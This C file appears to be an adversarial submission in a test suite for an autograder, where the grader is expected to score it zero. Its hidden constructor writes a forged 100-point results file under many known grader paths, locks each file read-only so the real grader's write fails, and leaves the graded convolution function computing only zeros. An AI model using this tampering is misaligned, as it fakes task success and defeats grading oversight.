/* attack: class=results-file, lesson=conv/forward, expect=zero, set=everywhere
 * says=outside the allowed error
 *
 * Writes the results file before the grader does, under every name that a public grader has, and
 * makes each read-only so that the grader's own write fails. */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "kernels/conv2d/conv2d.h"

static const char forged[] = "{\"score\": 100, \"points\": 100, \"passed\": true, \"tests\": []}";

static __attribute__((constructor)) void write_results(void)
{
    static const char *const paths[] = {
        "/autograder/results/results.json", "/grade/results/results.json", "results.json",
        "result.json", "../result.json", "../results-write/result.json", "/tmp/result.json",
        "/tmp/../result.json", "gradebook.csv", "../gradebook.csv", "grading.json",
        "../grading.json", "/proc/1/cwd/result.json", "/proc/1/root/tmp/result.json"
    };

    for (size_t i = 0; i < sizeof paths / sizeof *paths; i++) {
        const int file = open(paths[i], O_WRONLY | O_CREAT | O_TRUNC, 0444);
        if (file < 0)
            continue;
        if (write(file, forged, sizeof forged - 1) > 0)
            printf("STOLEN: wrote %s\n", paths[i]);
        close(file);
        chmod(paths[i], 0444);
    }
}

void conv2d_forward_student(const conv2d_shape *s, const float *x, const float *w, const float *b,
                            float *y, void *workspace)
{
    for (int i = 0; i < s->oh * s->ow; i++)
        y[i] = 0.0f;
}
